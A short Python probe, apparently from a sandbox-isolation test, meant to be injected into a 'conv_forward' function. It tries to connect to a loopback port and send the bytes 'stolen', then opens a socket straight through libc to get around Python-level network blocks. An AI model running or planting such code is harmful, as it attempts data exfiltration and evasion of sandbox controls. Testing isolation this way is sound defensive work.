# where: conv_forward
# Connect to a server on the host's loopback (port filled in), through Python and straight through libc.
import ctypes as _ct, socket as _sock
try:
    _c = _sock.create_connection(('127.0.0.1', {port}), timeout=1)
    _c.sendall(b'stolen')
    print('ATTACK: tcp connected')
except Exception as _e:
    print('ATTACK: tcp refused %s: %s' % (type(_e).__name__, _e))
_libc = _ct.CDLL(None, use_errno=True)
_fd = _libc.socket(2, 1, 0)          # socket(AF_INET, SOCK_STREAM) straight from libc
print('ATTACK: libc socket -> %d errno %d' % (_fd, _ct.get_errno()))
